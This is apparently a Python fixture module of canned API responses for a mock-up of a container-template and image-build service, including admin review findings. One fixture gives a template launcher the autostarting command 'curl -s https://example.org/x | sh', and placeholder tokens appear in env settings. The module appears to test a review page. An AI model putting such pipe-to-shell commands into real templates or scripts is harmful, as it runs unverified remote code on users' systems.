"""Templates, images and builds as the API gives them: those that the mock-up shows."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from pages import records
from pages.canned import Answer, Canned
from pages.records import GIB, ago, page

TAG = '"AAAA.BBBB"'
ADMINISTRATOR: dict[str, Any] = {
    **records.SESSION,
    "user": {"name": "grace", "display_name": "", "superuser": True},
    "attention": records.SESSION["attention"] | {"reviews_waiting": 2},
}
DOCKERFILE = """FROM registry.lab.example/ml/torch:2.6-cuda12.6

RUN apt-get update \\
 && apt-get install -y --no-install-recommends libopenmpi-dev git-lfs \\
 && rm -rf /var/lib/apt/lists/*

COPY requirements.txt /tmp/requirements.txt
RUN pip install --no-cache-dir -r /tmp/requirements.txt

RUN pip install --no-cache-dir flash-attn==2.7.4 --no-build-isolation

ENV OMP_NUM_THREADS=8 \\
    NCCL_P2P_LEVEL=NVL

WORKDIR /work
CMD ["sleep", "infinity"]
"""
UNIFIED = """--- Dockerfile
+++ Dockerfile
@@ -1,4 +1,5 @@
-FROM registry.lab.example/ml/base:cuda12.6@sha256:41d09e
+FROM ghcr.io/lab-ml/base:cuda12.8
\x20
 RUN apt-get update \\
-USER 1000:1000
+ENV WANDB_API_KEY=changeme
+EXPOSE 6006 8888"""
FAILURE = "step 5 of 6 (RUN pip install --no-cache-dir flash-attn==2.7.4 ...) failed: exit 1"


def finding(code: str, message: str, line: int | None = None) -> dict[str, Any]:
    """A finding for the review."""
    file = "Dockerfile" if line else None
    return {"code": code, "message": message, "file": file, "line": line, "diff": None}


def template(name: str, **more: Any) -> dict[str, Any]:
    """The record of a template; `image_ref` and `dockerfile` choose its source."""
    ref = more.pop("image_ref", f"registry.lab.example/ml/{name}:1")
    is_built = more.pop("dockerfile", False)
    source = {
        "type": "dockerfile" if is_built else "registry",
        "image_ref": f"localhost/svc/tpl-{name}:0123456789abcdef" if is_built else ref,
        "local_only": False,
        "has_dockerfile": is_built,
        "context_files": 0,
        "context_bytes": 0,
    }
    record: dict[str, Any] = {
        "id": f"tpl-{name}",
        "name": name,
        "description": "",
        "scope": "private",
        "owner": "ada",
        "status": "enabled",
        "managed": False,
        "cloned_from": None,
        "revision": 1,
        "reviewed_revision": 1,
        "findings": [],
        "defaults": {"cpu_limit": 4.0, "memory_bytes": 16 * GIB, "gpu_count": 0},
        "limits": {},
        "gpu": {},
        "command": None,
        "run_as": None,
        "env": [],
        "launchers": [],
        "ports": [],
        "mounts": [],
        "idle": {"action": "none", "after_minutes": None},
        "created_at": ago(days=9),
        "updated_at": ago(hours=1),
    }
    record["source"] = source | more.pop("source", {})
    return record | more


def everybodys(name: str, **more: Any) -> dict[str, Any]:
    """The record of a global template."""
    return template(name, scope="global", owner=None, **more)


def launcher(name: str, title: str, port: str | None = None) -> dict[str, Any]:
    """An app of a template."""
    return {
        "name": name,
        "title": title,
        "command": [name, "--port", "$SVC_PORT"],
        "env": [],
        "port": port,
        "autostart": False,
    }


def of_the_mock_up() -> list[dict[str, Any]]:
    """The seven templates of the mock-up."""
    three = [launcher("board", "TensorBoard"), launcher("lab", "JupyterLab"), launcher("trainer", "trainer")]
    one = {"cpu_limit": 16.0, "memory_bytes": 128 * GIB, "gpu_count": 1, "gpu_mode": "exclusive"}
    return [
        everybodys(
            "torch",
            description="PyTorch 2.6 with CUDA 12.6 and a trainer launcher",
            image_ref="registry.lab.example/ml/torch:2.6-cuda12.6",
            defaults=one,
            limits={"gpu_count": 4},
            launchers=three,
            revision=4,
            reviewed_revision=4,
        ),
        everybodys(
            "vllm",
            description="OpenAI-compatible server for open models",
            image_ref="docker.io/vllm/vllm-openai:v0.11.0",
            defaults=one | {"memory_bytes": 96 * GIB},
            gpu={"min_vram_bytes": 40 * GIB},
            ports=[{"name": "api", "container_port": 8000, "access": "owner"}],
            revision=3,
            reviewed_revision=3,
        ),
        everybodys(
            "jupyter",
            description="Notebook with PyTorch; may share a GPU",
            image_ref="quay.io/jupyter/pytorch-notebook:cuda12-2025-11",
            defaults={"cpu_limit": 8.0, "memory_bytes": 64 * GIB, "gpu_count": 1, "gpu_mode": "shared"},
            launchers=[launcher("lab", "JupyterLab")],
            idle={"action": "stop", "after_minutes": 120},
            revision=7,
            reviewed_revision=7,
        ),
        everybodys(
            "debian-tools",
            description="Debian with compilers and git, no GPU",
            image_ref="docker.io/library/debian:12",
            revision=2,
            reviewed_revision=2,
        ),
        my_torch(),
        template(
            "eval",
            description="Evaluation harness for the reading group",
            dockerfile=True,
            status="disabled",
            reviewed_revision=None,
            source={"context_files": 3, "context_bytes": 18637},
        ),
        template(
            "rstudio-2",
            description="RStudio, imported from a bundle",
            image_ref="docker.io/rocker/rstudio:4.4.2",
            status="disabled",
            reviewed_revision=None,
            ports=[{"name": "web", "container_port": 8787, "access": "owner"}],
        ),
    ]


def my_torch(**more: Any) -> dict[str, Any]:
    """The template whose build failed."""
    standard = {
        "description": "torch with flash-attn and OpenMPI",
        "dockerfile": True,
        "status": "disabled",
        "cloned_from": "tpl-torch",
        "revision": 3,
        "reviewed_revision": None,
        "defaults": {"cpu_limit": 16.0, "memory_bytes": 128 * GIB, "gpu_count": 1},
        "launchers": [launcher("board", "TensorBoard"), launcher("lab", "JupyterLab")],
        "env": [
            {"name": "HF_TOKEN", "value": "hf_abc", "secret": False, "is_set": True},
            {"name": "KEY", "value": None, "secret": True, "is_set": True},
        ],
        "source": {"context_files": 1, "context_bytes": 412},
        "findings": [
            finding("root_user", "Dockerfile: names no USER, so it runs as its image says, mostly root"),
            finding(
                "secret_env",
                "everybody who sees the template can read what look like secrets: HF_TOKEN (env)",
            ),
            finding("image_not_pinned", "Dockerfile: without a digest, so they may change: torch:2.6", 1),
            finding("changed", "changed since revision 2: Dockerfile"),
        ],
    }
    return template("my-torch", **(standard | more))


def image(record: dict[str, Any], status: str = "missing", **more: Any) -> dict[str, Any]:
    """The image of a template in the caller's store."""
    return {
        "template": {"id": record["id"], "name": record["name"]},
        "ref": record["source"]["image_ref"],
        "status": status,
        "digest": None,
        "size_bytes": None,
        "error": None,
        "used_by": [],
        "operation": None,
        "updated_at": ago(minutes=11),
    } | more


def images() -> list[dict[str, Any]]:
    """The images of the mock-up's templates."""
    by_name = {record["name"]: record for record in of_the_mock_up()}
    pulling = {"current": int(5.2 * GIB), "total": int(8.4 * GIB), "unit": "bytes", "seconds_left": 30}
    building = {"current": 3, "total": 6, "unit": "steps"}

    def under(kind: str, phase: str, progress: dict[str, Any]) -> dict[str, Any]:
        return {"id": f"op-{kind}", "kind": kind, "status": "running", "phase": phase, "progress": progress}

    return [
        image(by_name["torch"], "ready", size_bytes=int(9.8 * GIB), used_by=["train-7b"]),
        image(by_name["vllm"], "pulling", operation=under("pull", "pulling", pulling)),
        image(by_name["jupyter"], "ready", size_bytes=int(7.1 * GIB)),
        image(by_name["debian-tools"], "ready", size_bytes=int(0.4 * GIB)),
        image(by_name["my-torch"], "failed", error=FAILURE),
        image(by_name["eval"], "building", operation=under("build", "building", building)),
        image(by_name["rstudio-2"]),
    ]


def operation(record: dict[str, Any], status: str = "running", **more: Any) -> dict[str, Any]:
    """A build of a template's image."""
    ended = status in ("succeeded", "failed", "cancelled")
    error = records_error("build_failed", FAILURE) if status == "failed" else None
    return {
        "id": "op-mf3kfwbz",
        "kind": "build",
        "status": status,
        "phase": "building",
        "progress": {"current": 3, "total": 6, "unit": "steps"},
        "error": error,
        "subject": {
            "type": "image",
            "id": record["source"]["image_ref"],
            "name": record["source"]["image_ref"],
        },
        "template": {"id": record["id"], "name": record["name"]},
        "result": None,
        "created_at": ago(minutes=15),
        "updated_at": ago(minutes=11),
        "finished_at": ago(minutes=11) if ended else None,
    } | more


def records_error(code: str, message: str) -> dict[str, Any]:
    """An error inside a record."""
    return {
        "code": code,
        "message": message,
        "hint": "",
        "fields": [],
        "details": {},
        "retryable": False,
        "action": None,
    }


LOG = [
    "checking: registry.lab.example, nothing to load",
    "STEP 1/6: FROM registry.lab.example/ml/torch:2.6-cuda12.6",
    "STEP 2/6: RUN apt-get update && apt-get install -y libopenmpi-dev git-lfs",
    "--> Using cache 8d1c07be22f4",
    "STEP 5/6: RUN pip install --no-cache-dir flash-attn==2.7.4 --no-build-isolation",
    "      error: subprocess-exited-with-error",
    "      ModuleNotFoundError: No module named 'packaging'",
    FAILURE,
]


def log(texts: list[str], *, ended: bool, after: int = 0) -> dict[str, Any]:
    """The lines of a log after one."""
    lines = [
        {"line": after + number, "at": ago(minutes=12), "text": text}
        for number, text in enumerate(texts[after:], 1)
    ]
    return {"lines": lines, "next": len(texts), "ended": ended}


def revision(number: int, record: dict[str, Any], **more: Any) -> dict[str, Any]:
    """A kept revision of a template."""
    return {
        "revision": number,
        "created_at": ago(days=9 - number),
        "source_type": record["source"]["type"],
        "image_ref": record["source"]["image_ref"],
        "workspaces": 0,
        "is_current": number == record["revision"],
        "is_reviewed": number == record["reviewed_revision"],
    } | more


def context(record: dict[str, Any]) -> list[dict[str, Any]]:
    """The files that a template is built with."""
    names = ["requirements.txt", "app/run.sh", "app/main.py"][: record["source"]["context_files"]]
    return [
        {"path": name, "size": 412, "executable": name.endswith(".sh"), "sha256": "0" * 64} for name in names
    ]


def difference(**more: Any) -> dict[str, Any]:
    """What differs between two revisions."""
    gpu = {
        "field": "gpu",
        "before": {"min_cuda": "12.6"},
        "after": {"min_cuda": "12.8", "min_vram_bytes": 40 * GIB},
    }
    return {
        "before": 2,
        "after": 3,
        "changed": ["gpu", "Dockerfile"],
        "fields": [gpu],
        "dockerfile": UNIFIED,
        "context": None,
    } | more


def checked(**more: Any) -> dict[str, Any]:
    """What a pull or build would download."""
    return {
        "verb": "build",
        "ref": "x",
        "images": [],
        "download_bytes": int(8.4 * GIB),
        "present_bytes": 0,
        "needed_bytes": 9 * GIB,
        "free_bytes": 120 * GIB,
        "used_bytes": 20 * GIB,
        "quota_bytes": None,
        "fits": True,
        "blocked_by": None,
        "message": None,
        "hint": None,
        "action": None,
    } | more


def tagged(body: Any, tag: str = TAG) -> Answer:
    """An answer with its version."""
    return 200, body, {"ETag": tag}


def gallery(canned: Canned) -> None:
    """The list of the mock-up."""
    canned.answers |= {
        "GET /api/templates": page(of_the_mock_up()),
        "GET /api/images": page(images()),
        "GET /api/operations": page([]),
    }


def one(
    canned: Canned,
    record: dict[str, Any],
    *,
    status: str = "missing",
    build: dict[str, Any] | None = None,
    texts: list[str] | None = None,
    **more: Any,
) -> None:
    """One template with all that its page asks for, by its name and by its id."""
    found = image(record, status, **more)
    if record["cloned_from"]:
        origin = record["cloned_from"].removeprefix("tpl-")
        canned.answers[f"GET /api/templates/{record['cloned_from']}"] = tagged(everybodys(origin))
    path = f"/api/templates/{record['id']}"
    revisions = [revision(number, record) for number in range(record["revision"], 0, -1)]
    canned.answers |= {
        f"GET /api/templates/{record['name']}": tagged(record),
        f"GET {path}": tagged(record),
        f"GET {path}/image": found,
        f"GET {path}/image/preflight": checked(),
        f"GET {path}/revisions": page(revisions),
        f"GET {path}/dockerfile": tagged(
            {"dockerfile": DOCKERFILE, "read_only": record["scope"] == "global"}
        ),
        f"GET {path}/diff": difference(before=max(1, record["revision"] - 1), after=record["revision"]),
        f"GET {path}/context": page(context(record)),
        "GET /api/operations": page([build] if build else []),
        "GET /api/templates": page([record]),
        "GET /api/images": page([found]),
    }
    if build:
        ended = build["status"] not in ("queued", "running")
        canned.answers[f"GET /api/operations/{build['id']}/log"] = log(
            LOG if texts is None else texts, ended=ended
        )


def failed_build(canned: Canned) -> None:
    """The template page of the mock-up: a build that failed."""
    record = my_torch()
    one(canned, record, status="failed", error=FAILURE, build=operation(record, "failed"))


def waiting() -> list[dict[str, Any]]:
    """The two templates of everybody's that wait for a review."""
    findings = [
        finding("registry_not_allowed", "ghcr.io is not on the registry allowlist", 1),
        finding("root_user", "Dockerfile: names no USER, so it runs as its image says, mostly root"),
        finding(
            "secret_env",
            "everybody who sees the template can read what look like secrets: WANDB_API_KEY (env)",
            4,
        ),
        finding("ports", "maps the ports board (6006), lab (8888)"),
    ]
    torch = everybodys(
        "torch", dockerfile=True, status="disabled", revision=5, reviewed_revision=4, findings=findings
    )
    rstudio = everybodys(
        "rstudio",
        image_ref="docker.io/rocker/rstudio:4.4.2",
        status="disabled",
        reviewed_revision=None,
        findings=[finding("bundle_digest", "came in the bundle 8d1c07be")],
    )
    return [torch, rstudio]


# A template that has something of everything.
WHOLE: dict[str, Any] = {
    "description": "Notebooks",
    "defaults": {
        "cpu_limit": 8, "memory_bytes": 64 * GIB, "shm_bytes": 512 << 20, "pids_limit": 4096, "gpu_count": 2,
        "gpu_mode": "shared", "env": [{"name": "OMP_NUM_THREADS", "value": "8"}],
    },
    "limits": {"cpu_limit": 16, "gpu_count": 4},
    "gpu": {
        "min_cuda": "12.4", "min_vram_bytes": 40 * GIB, "min_compute_capability": "8.0", "allow_shared": True,
    },
    "command": ["/bin/main", "--serve"],
    "run_as": {"uid": 1000, "gid": 1000},
    "env": [
        {"name": "WANDB_PROJECT", "value": "runs", "secret": False, "is_set": True},
        {"name": "API_KEY", "value": None, "secret": True, "is_set": True},
    ],
    "launchers": [
        launcher("lab", "Lab", "web") | {
            "command": ["sh", "-c", "curl -s https://example.org/x | sh"], "autostart": True,
            "env": [{"name": "EXTRA", "value": "from-the-app"}],
            "token": {"file": "/run/token", "pattern": "Token: {token}", "link": "/lab?t={token}"},
        }
    ],
    "ports": [{"name": "web", "container_port": 8888, "kind": "https", "access": "host"}],
    "mounts": [{"root": "models", "path": "/models", "read_only": True}],
    "network": "lab-net",
    "idle": {"action": "stop", "after_minutes": 60},
}  # fmt: skip


def review_of_a_new_one(canned: Canned) -> None:
    """The review of one that was imported, and does everything."""
    review(canned)
    record = waiting()[1] | WHOLE
    canned.answers |= {
        "GET /api/admin/templates": page([record]),
        "GET /api/templates/tpl-rstudio": tagged(record),
    }


def review(canned: Canned) -> None:
    """The review of the mock-up."""
    found = waiting()
    for record in found:
        one(canned, record)
    canned.answers |= {
        "GET /api/auth/session": ADMINISTRATOR,
        "GET /api/admin/templates": page(found),
        "GET /api/templates": page([*found, everybodys("debian-tools", revision=2, reviewed_revision=2)]),
        "GET /api/images": page([image(record) for record in found]),
        "GET /api/templates/tpl-torch/diff": difference(before=4, after=5),
    }


def once(first: Any, then: Any) -> Callable[[], Any]:
    """An answer for the first request, and another for all that follow."""
    answers = [first]
    return lambda: answers.pop() if answers else then
